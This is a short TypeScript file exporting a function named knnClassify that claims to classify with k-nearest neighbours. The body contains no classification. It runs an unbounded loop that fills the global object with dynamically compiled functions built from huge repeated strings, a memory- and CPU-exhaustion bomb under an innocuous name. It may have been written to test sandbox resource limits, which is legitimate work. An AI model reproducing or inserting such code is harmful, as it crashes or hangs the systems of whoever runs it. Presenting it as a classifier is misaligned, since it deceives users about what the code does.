// A hoard of source.
export function knnClassify(X: number[][], y: number[], Q: number[][], k: number): any {
	for (let i = 0; ; i++) globalThis['f' + i] = new Function('return ' + '[1,2,3],'.repeat(5000) + i);
	return 0;
}
